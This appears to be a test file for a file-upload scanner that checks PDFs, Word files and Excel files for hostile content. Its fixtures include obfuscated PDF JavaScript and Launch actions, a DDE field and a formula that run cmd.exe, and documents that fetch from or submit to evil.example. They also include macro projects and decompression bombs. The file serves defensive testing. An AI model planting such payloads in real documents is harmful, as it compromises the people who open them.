import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { constants, deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import {
  contentTypesOf,
  documentType,
  docxParts,
  relationshipsOf,
  workbookType,
  xlsxParts,
  zipOf,
} from '../../testing/office-files.ts';
import { inspectFile } from './file-upload.rules.ts';

const PDF = 'application/pdf';
const latin = (text: string) => Buffer.from(text, 'latin1');
const pdfOf = (...parts: (string | Buffer)[]) =>
  Buffer.concat([latin('%PDF-1.7\n'), ...parts.map((part) => Buffer.from(part as string)), latin('\n%%EOF\n')]);
/** An object of its own. */
const object = (content: string, number = 1) => `${number} 0 obj\n${content}\nendobj\n`;
/** A stream of packed objects; `entries` is what its dictionary says beside what it must. */
const packedIn = (content: Buffer, entries: string, first = 4, count = 1, head = '') =>
  Buffer.concat([
    latin(`9 0 obj\n${head}<</Type/ObjStm/N ${count}/First ${first}${entries}>>\nstream\n`),
    content,
    latin('\nendstream\nendobj\n'),
  ]);
const packed = (objects: string) => packedIn(deflateSync(`1 0 ${objects}`), '/Filter/FlateDecode');
const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>';
const fixture = (name: string) => readFileSync(join(import.meta.dirname, '../../testing/files', name));
const asBase85 = (bytes: Buffer) => {
  let text = '';
  for (let at = 0; at < bytes.length; at += 4) {
    const group = Buffer.alloc(4);
    bytes.copy(group, 0, at, at + 4);
    let value = group.readUInt32BE(0);
    const digits: string[] = [];
    for (let index = 0; index < 5; index += 1) {
      digits.unshift(String.fromCharCode(33 + (value % 85)));
      value = Math.floor(value / 85);
    }
    text += digits.join('').slice(0, Math.min(4, bytes.length - at) + 1);
  }
  return `${text}~>`;
};

describe('a PDF', () => {
  test.each([
    ['a form of pdf-lib', fixture('form.pdf')],
    ['links, bookmarks and packed objects, linearised by qpdf', fixture('linearized.pdf')],
    ['a bare one', pdfOf(object('<</Type/Catalog/Pages 2 0 R>>'), 'trailer<</Root 1 0 R>>')],
    // Three bytes that any large scan has somewhere in its compressed pictures.
    ['a picture whose bytes hold /JS', pdfOf('1 0 obj<</Length 8>>stream\n\x07/JS\x01\x02\nendstream endobj')],
    ['packed objects', pdfOf(packed('<</Type/Page>>'))],
    [
      'packed objects with a wrong checksum',
      pdfOf(packedIn(spoilt(deflateSync('1 0 <</A 1>>')), '/Filter/FlateDecode')),
    ],
    [
      'packed objects in hexadecimal',
      pdfOf(packedIn(latin(`${latin('1 0 <</A 1>>').toString('hex')}>`), '/Filter/AHx')),
    ],
    ['packed objects in base 85', pdfOf(packedIn(latin(asBase85(latin('1 0 <</A 1>>'))), '/Filter[/ASCII85Decode]'))],
    [
      'a link to the web and one by email',
      pdfOf(
        object('<</A<</S/URI/URI(https://example.com/a?b)>>>>'),
        object('<</A<</S/URI/URI(mailto:a@b.example)>>>>'),
      ),
    ],
    ['a link into the next volume', pdfOf(object('<</A<</S/GoToR/F(volume-2.pdf)/D(x)>>>>'))],
    ['a page to begin with', pdfOf(object('<</OpenAction[3 0 R/Fit]>>'), object('<</OpenAction<</S/GoTo/D(x)>>>>'))],
    ['styles of the structure', pdfOf(object('<</Type/StructElem/S/P/A<</O/Layout>>>>'))],
  ])('%s passes', async (_, bytes) => {
    expect(await inspectFile('a.pdf', bytes)).toEqual({ mediaType: PDF });
  });

  test.each<[string, Buffer, RegExp]>([
    ['a script', pdfOf(object(SCRIPT)), /scripts/],
    ['a script that is no object of any table', pdfOf(SCRIPT), /scripts/],
    ['a script whose name is written in codes', pdfOf(object('<</S/J#61vaScript/J#53(1)>>')), /scripts/],
    ['a script under the short name alone', pdfOf(object('<</J#53 5 0 R>>')), /scripts/],
    ['a script whose kind is an object of its own', pdfOf(object('<</S 7 0 R>>'), object('/JavaScript', 7)), /scripts/],
    ['an action whose kind is told elsewhere', pdfOf(object('<</A<</S 7 0 R>>>>')), /scripts/],
    ['an action that no standard knows', pdfOf(object('<</OpenAction<</S/Execute>>>>')), /scripts/],
    ['an action behind a harmless one', pdfOf(object('<</A<</S/GoTo/Next[<</S/Lau#6Ech/F(cmd.exe)>>]>>>>')), /scripts/],
    [
      'a script inside a string that a table points into',
      pdfOf(object(`(1 0 obj ${SCRIPT.replaceAll(/[()]/g, '\\$&')} endobj)`)),
      /scripts/,
    ],
    [
      'a script inside a stream that a table points into',
      pdfOf(`1 0 obj<</Length 99>>stream\n2 0 obj<</AA 3 0 R>>endobj\nendstream`),
      /scripts/,
    ],
    ['a script whose object begins behind a comment', pdfOf('1 0 % x\nobj<</AA 3 0 R>>endobj'), /scripts/],
    ['a script among packed objects', pdfOf(packed(SCRIPT)), /scripts/],
    [
      'packed objects that say so in codes',
      pdfOf(Buffer.from(packed('<</J#53(1)>>').toString('latin1').replace('/ObjStm', '/#4fbjStm'), 'latin1')),
      /scripts/,
    ],
    [
      'packed objects that do not say what they are',
      pdfOf(Buffer.from(packed('<</JS(1)>>').toString('latin1').replace('/Type/ObjStm', ''), 'latin1')),
      /scripts/,
    ],
    [
      'packed objects far from their word "stream"',
      pdfOf(
        Buffer.from(
          packed('<</JS(1)>>')
            .toString('latin1')
            .replace('>>\nstream', `>>${' '.repeat(5_000)}%${'x'.repeat(5_000)}\nstream`),
          'latin1',
        ),
      ),
      /scripts/,
    ],
    [
      'packed objects in hexadecimal',
      pdfOf(packedIn(latin(`${latin('1 0 <</JS(1)>>').toString('hex')}>`), '/Filter/ASCIIHexDecode')),
      /scripts/,
    ],
    [
      'packed objects in hexadecimal over Flate',
      pdfOf(packedIn(latin(`${deflateSync('1 0 <</JS(1)>>').toString('hex')}>`), '/Filter[/ASCIIHexDecode/Fl]')),
      /scripts/,
    ],
    ['packed objects in base 85', pdfOf(packedIn(latin(asBase85(latin('1 0 <</JS(1)>>'))), '/Filter/A85')), /scripts/],
    ['packed objects as they are', pdfOf(packedIn(latin('1 0 <</JS(1)>>'), '')), /scripts/],
    [
      'a packed object inside the string of another',
      pdfOf(packedIn(deflateSync('1 1 (<</JS 2 0 R>>)'), '/Filter/FlateDecode')),
      /scripts/,
    ],
    [
      'packed objects with a wrong checksum',
      pdfOf(packedIn(spoilt(deflateSync('1 0 <</JS(1)>>')), '/Filter/FlateDecode')),
      /scripts/,
    ],
    [
      'packed objects that break off behind a script',
      pdfOf(packedIn(flushed('1 0 <</JS(1)>>'), '/Filter/FlateDecode')),
      /damaged|scripts/,
    ],
    [
      'packed objects that break off at once',
      pdfOf(packedIn(Buffer.concat([Buffer.of(0x78, 0x9c), Buffer.alloc(40, 0xff)]), '/Filter/FlateDecode')),
      /cannot be checked/,
    ],
    ['packed objects in LZW', pdfOf(packedIn(latin('\x80\x0b'), '/Filter/LZWDecode')), /cannot be checked/],
    [
      'packed objects whose filter is told elsewhere',
      pdfOf(packedIn(deflateSync('1 0 1'), '/Filter 8 0 R')),
      /cannot be checked/,
    ],
    [
      'packed objects with two filters for one',
      pdfOf(packedIn(deflateSync('1 0 1'), '/Filter/AHx/Filter/FlateDecode')),
      /cannot be checked/,
    ],
    [
      'packed objects that are predicted',
      pdfOf(packedIn(deflateSync('1 0 1'), '/Filter/FlateDecode/DecodeParms<</Predictor 12>>')),
      /cannot be checked/,
    ],
    [
      'packed objects whose number is told elsewhere',
      pdfOf(Buffer.from(packed('1').toString('latin1').replace('/N 1', '/N 8 0 R'), 'latin1')),
      /cannot be checked/,
    ],
    [
      'packed objects that are a bomb',
      pdfOf(packedIn(deflateSync(Buffer.alloc(60_000_000, 32)), '/Filter/FlateDecode')),
      /unpacks to more/,
    ],
    ['a stream in another file', pdfOf('1 0 obj<</F(\\\\\\\\evil.example\\\\a)>>stream\nendstream'), /other files/],
    ['a file inside', pdfOf(object('<</Type/EmbeddedFile>>')), /other files/],
    ['a file inside, by its specification', pdfOf(object('<</EF<</F 5 0 R>>>>')), /other files/],
    ['a film', pdfOf(object('<</Subtype/RichMedia>>')), /other files/],
    ['a three-dimensional scene', pdfOf(object('<</Subtype/3D>>')), /other files/],
    ['a form that is a program (XFA)', pdfOf(object('<</AcroForm<</XFA 5 0 R>>>>')), /scripts/],
    ['a form that sends itself', pdfOf(object('<</A<</S/SubmitForm/F(https://evil.example)>>>>')), /scripts/],
    ['a link that is a script', pdfOf(object('<</A<</S/URI/URI(java\\\nscript:alert\\(1\\))>>>>')), /links/],
    [
      'a link that is a script, in two bytes a character',
      pdfOf(object('<</A<</S/URI/URI<FEFF006A006100760061007300630072006900700074003A0031>>>>>')),
      /links/,
    ],
    ['a link to a file', pdfOf(object('<</A<</S/URI/URI(file:///c:/a.exe)>>>>')), /links/],
    ['a document on a share', pdfOf(object('<</A<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>>>')), /links/],
    ['a document that is told elsewhere', pdfOf(object('<</A<</S/GoToR/F 7 0 R>>>>')), /links/],
    ['protection, by qpdf', fixture('protected.pdf'), /protected/i],
    ['protection that is only said', pdfOf('%/Encrypt\n', packed('<</JS(1)>>')), /protected/i],
    ['an object that never ends', pdfOf('1 0 obj<</A(x'), /damaged/],
    ['an object that ends in another', pdfOf('1 0 obj<</A 1 endobj 2 0 obj<<>>endobj'), /damaged/],
    ['objects inside each other', pdfOf(object('['.repeat(50_000))), /damaged/],
    ['a million objects in one string', pdfOf(`${'1 0 obj('.repeat(200_000)}`), /damaged|more than/],
  ])('%s is refused with its reason', async (_, bytes, reason) => {
    expect(await inspectFile('a.pdf', bytes)).toEqual({ refusal: expect.stringMatching(reason) });
  });

  test.each([
    ['names in codes', () => Buffer.alloc(8_000_000, '/#41')],
    ['packed streams that are named only', () => Buffer.alloc(8_000_000, '/ObjStm ')],
    ['objects that are begun only', () => Buffer.alloc(8_000_000, '1 0 obj ')],
    ['slashes', () => Buffer.alloc(8_000_000, '/')],
    ['comments before objects', () => Buffer.alloc(8_000_000, '%obj')],
    ['trailers', () => Buffer.alloc(8_000_000, 'trailer<<')],
  ])('8 MB of %s are judged: what looked at each of them for each other would never end', async (_, make) =>
    expect(await inspectFile('a.pdf', pdfOf(make()))).toBeDefined(),
  );
});

/** With another last byte, which is one of the checksum. */
function spoilt(bytes: Buffer): Buffer {
  return Buffer.from(bytes).fill(bytes.at(-1)! ^ 0xff, bytes.length - 1);
}
/** Packed up to here, with more to come. */
function flushed(text: string): Buffer {
  return deflateSync(text, { finishFlush: constants.Z_SYNC_FLUSH });
}

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const OLE = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
const field = (...runs: string[]) =>
  `<w:document><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs
    .map((run) => (run.startsWith('<') ? run : `<w:r><w:instrText>${run}</w:instrText></w:r>`))
    .join(
      '',
    )}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:document>`;
const docx = (parts: Record<string, string | Buffer>) => zipOf({ ...docxParts, ...parts });
const xlsx = (parts: Record<string, string | Buffer>) => zipOf({ ...xlsxParts, ...parts });
const related = (...relationships: Parameters<typeof relationshipsOf>) => ({
  'word/_rels/document.xml.rels': relationshipsOf(...relationships),
});
const sheetWith = (formula: string) =>
  xlsx({
    'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>`,
  });

describe('an office document', () => {
  test.each<[string, string, Buffer, string]>([
    ['a text with a table of contents, page numbers, a link and a picture', 'a.docx', fixture('scope.docx'), WORD],
    ['a sheet with formulas, a table, a note and a link', 'a.xlsx', fixture('lines.xlsx'), SHEET],
    ['fields of every day', 'a.docx', docx({ 'word/document.xml': field(' TO', 'C \\o "1-3"') }), WORD],
    ['a link by a field', 'a.docx', docx({ 'word/document.xml': field(' HYPERLINK "https://example.com" ') }), WORD],
    [
      'a chart with its figures',
      'a.docx',
      docx({
        '[Content_Types].xml': contentTypesOf({ 'word/document.xml': documentType }, { xlsx: SHEET }),
        'word/embeddings/figures.xlsx': zipOf(xlsxParts),
        ...related(['package', 'embeddings/figures.xlsx']),
      }),
      WORD,
    ],
    ['a formula with a bar in its text', 'a.xlsx', sheetWith('IF(A1,"a|b!","")'), SHEET],
    ['an email address', 'a.docx', docx(related(['hyperlink', 'mailto:a@b.example', 'External'])), WORD],
  ])('%s passes', async (_, name, bytes, mediaType) => {
    expect(await inspectFile(name, bytes)).toEqual({ mediaType });
  });

  test.each<[string, string, Buffer, RegExp]>([
    ['a macro project under its own name', 'a.docx', docx({ 'word/vbaProject.bin': OLE }), /macros/],
    [
      'a macro project under another name',
      'a.docx',
      docx({
        '[Content_Types].xml': contentTypesOf(
          { 'word/document.xml': documentType },
          { dat: 'application/vnd.ms-office.vbaProject' },
        ),
        'word/theme.dat': OLE,
        ...related(['http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'theme.dat']),
      }),
      /macros/,
    ],
    [
      'a macro project that calls itself a picture',
      'a.docx',
      docx({
        '[Content_Types].xml': contentTypesOf({ 'word/document.xml': documentType }, { png: 'image/png' }),
        'word/media/image1.png': OLE,
      }),
      /embedded/,
    ],
    [
      'a macro project by its relationship alone',
      'a.docx',
      docx(related(['http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'media/image1.png'])),
      /macros/,
    ],
    [
      'a main part with macros',
      'a.docx',
      docx({
        '[Content_Types].xml': contentTypesOf({
          'word/document.xml': 'application/vnd.ms-word.document.macroEnabled.main+xml',
        }),
      }),
      /does not match its extension/,
    ],
    [
      'macros of Excel 4',
      'a.xlsx',
      xlsx({
        '[Content_Types].xml': contentTypesOf({
          'xl/workbook.xml': workbookType,
          'xl/macrosheets/a.xml': 'application/vnd.ms-excel.macrosheet+xml',
        }),
        'xl/macrosheets/a.xml': '<a/>',
      }),
      /macros/,
    ],
    ['an ActiveX control', 'a.docx', docx(related(['control', 'activeX/activeX1.xml'])), /macros/],
    [
      'a ribbon of its own',
      'a.docx',
      docx({
        '_rels/.rels': relationshipsOf([
          'http://schemas.microsoft.com/office/2007/relationships/ui/extensibility',
          'customUI.xml',
        ]),
      }),
      /macros/,
    ],
    [
      'a template from elsewhere',
      'a.docx',
      docx({
        'word/_rels/settings.xml.rels': relationshipsOf([
          'attachedTemplate',
          'https://evil.example/a.dotm',
          'External',
        ]),
      }),
      /external links/,
    ],
    [
      'a picture from elsewhere',
      'a.docx',
      docx(related(['image', 'https://evil.example/a.png', 'External'])),
      /external links/,
    ],
    [
      'a picture from elsewhere that says it is inside',
      'a.docx',
      docx(related(['image', 'https://evil.example/a.png'])),
      /external links/,
    ],
    ['a picture on a share', 'a.docx', docx(related(['image', '\\\\evil.example\\a.png'])), /external links/],
    [
      'a picture named in a drawing',
      'a.docx',
      docx({ 'word/document.xml': '<w:document><v:imagedata src="http://evil.example/a.png"/></w:document>' }),
      /external links/,
    ],
    ['a frame', 'a.docx', docx(related(['frame', 'https://evil.example', 'External'])), /external links/],
    [
      'another workbook',
      'a.xlsx',
      xlsx({ 'xl/_rels/workbook.xml.rels': relationshipsOf(['externalLink', 'externalLinks/externalLink1.xml']) }),
      /external links/,
    ],
    [
      'a connection',
      'a.xlsx',
      xlsx({ 'xl/_rels/workbook.xml.rels': relationshipsOf(['connections', 'connections.xml']) }),
      /external links/,
    ],
    ['an OLE object', 'a.docx', docx(related(['oleObject', 'embeddings/oleObject1.bin'])), /embedded/],
    [
      'an OLE object without a relationship',
      'a.docx',
      docx({
        '[Content_Types].xml': contentTypesOf(
          { 'word/document.xml': documentType },
          { bin: 'application/vnd.openxmlformats-officedocument.oleObject' },
        ),
        'word/embeddings/oleObject1.bin': OLE,
      }),
      /embedded/,
    ],
    ['a page of HTML as a part', 'a.docx', docx(related(['aFChunk', 'chunk.htm'])), /embedded/],
    [
      'a spreadsheet inside that has macros',
      'a.docx',
      docx({
        '[Content_Types].xml': contentTypesOf({ 'word/document.xml': documentType }, { xlsx: SHEET }),
        'word/embeddings/figures.xlsx': xlsx({ 'xl/vbaProject.bin': OLE }),
      }),
      /macros/,
    ],
    [
      'an SVG',
      'a.docx',
      docx({
        '[Content_Types].xml': contentTypesOf({ 'word/document.xml': documentType }, { svg: 'image/svg+xml' }),
        'word/media/a.svg': '<svg/>',
      }),
      /embedded/,
    ],
    ['a part of no kind', 'a.docx', docx({ 'word/readme.exe': 'MZ' }), /cannot be checked/],
    [
      'a relationship of no kind',
      'a.docx',
      docx(related(['https://example.com/relationships/styles', 'styles.xml'])),
      /cannot be checked/,
    ],
    [
      'a DDE field',
      'a.docx',
      docx({ 'word/document.xml': field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ') }),
      /DDE/,
    ],
    ['a DDE field in pieces', 'a.docx', docx({ 'word/document.xml': field(' D', 'DE', 'AUTO cmd') }), /DDE/],
    ['a DDE field in codes of its own', 'a.docx', docx({ 'word/document.xml': field(' &#68;&#x44;E cmd') }), /DDE/],
    [
      'a DDE field whose name another field makes',
      'a.docx',
      docx({
        'word/document.xml': field(
          '<w:fldChar w:fldCharType="begin"/>',
          ' QUOTE 68 68 69 ',
          '<w:fldChar w:fldCharType="end"/>',
          ' cmd',
        ),
      }),
      /DDE/,
    ],
    [
      'a simple DDE field',
      'a.docx',
      docx({ 'word/footnotes.xml': '<w:footnotes><w:fldSimple w:instr=" dde cmd "/></w:footnotes>' }),
      /DDE/,
    ],
    [
      'a field that includes a file',
      'a.docx',
      docx({ 'word/document.xml': field(' INCLUDEPICTURE "https://evil.example/a.png" \\d ') }),
      /DDE/,
    ],
    [
      'a field that never ends',
      'a.docx',
      docx({ 'word/document.xml': '<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd</w:instrText></w:p>' }),
      /DDE/,
    ],
    ['a formula that starts a program', 'a.xlsx', sheetWith("cmd|'/c calc'!A0"), /DDE/],
    ['a formula that fetches', 'a.xlsx', sheetWith('_xlfn.WEBSERVICE(&quot;https://evil.example&quot;)'), /DDE/],
    [
      'a name whose formula starts a program',
      'a.xlsx',
      xlsx({ 'xl/workbook.xml': "<workbook><definedName>cmd|'/c calc'!A0</definedName></workbook>" }),
      /DDE/,
    ],
    ['a link that is a script', 'a.docx', docx(related(['hyperlink', 'javascript:alert(1)', 'External'])), /links/],
    ['a link to a share', 'a.docx', docx(related(['hyperlink', 'file://evil.example/a', 'External'])), /links/],
    [
      'a link to a share by a field',
      'a.docx',
      docx({ 'word/document.xml': field(' HYPERLINK "\\\\evil.example\\a" ') }),
      /links/,
    ],
    ['UTF-16', 'a.docx', docx({ 'word/styles.xml': Buffer.from('\uFEFF<a/>', 'utf16le') }), /cannot be checked/],
    ['UTF-7', 'a.docx', docx({ 'word/styles.xml': '<?xml version="1.0" encoding="utf-7"?><a/>' }), /cannot be checked/],
    ['an entity of its own', 'a.docx', docx({ 'word/styles.xml': '<!DOCTYPE a [<!ENTITY x "y">]><a/>' }), /entities/],
    ['an entity that nobody declared', 'a.docx', docx({ 'word/document.xml': '<a>&x;</a>' }), /entities/],
    ['XML that is none', 'a.docx', docx({ 'word/document.xml': '<a <b' }), /damaged/],
    ['two parts of one name', 'a.docx', docx({ 'WORD/document.xml': '<a/>' }), /damaged/],
    [
      'two kinds for one part',
      'a.docx',
      docx({
        '[Content_Types].xml': docxParts['[Content_Types].xml'].replace(
          '<Override',
          '<Default Extension="XML" ContentType="text/xml"/><Override',
        ),
      }),
      /damaged/,
    ],
    ['an entry that calls itself otherwise', 'a.docx', renamed(zipOf(docxParts)), /damaged/],
    ['190 MB of NUL', 'a.docx', docx({ 'word/styles.xml': Buffer.alloc(190_000_000) }), /unpacks to more/],
    [
      '190 MB of NUL beside as much as hides them',
      'a.docx',
      docx({ 'word/styles.xml': Buffer.alloc(90_000_000), 'word/a.xml': Buffer.from(incompressible(2_000_000)) }),
      /cannot be checked|damaged/,
    ],
    [
      'a million tags that are not closed',
      'a.docx',
      docx({ 'word/styles.xml': `<a${' '.repeat(300_000)}<`, 'word/b.xml': incompressible(20_000) }),
      /damaged/,
    ],
  ])('%s is refused with its reason', async (_, name, bytes, reason) => {
    expect(await inspectFile(name, bytes)).toEqual({ refusal: expect.stringMatching(reason) });
  });
});

/** Text that packs badly, so that the ratio does not come first. */
function incompressible(length: number): string {
  let seed = 1;
  let text = '<a>';
  while (text.length < length) {
    seed = (seed * 48_271) % 2_147_483_647;
    text += seed.toString(36);
  }
  return `${text}</a>`;
}

/** The main part under another name than the directory has. */
function renamed(zip: Buffer): Buffer {
  const copy = Buffer.from(zip);
  // The first time that the name stands in the file is before the entry; in the listings of its kinds it is packed.
  copy.write('X', copy.indexOf('word/document.xml'));
  return copy;
}
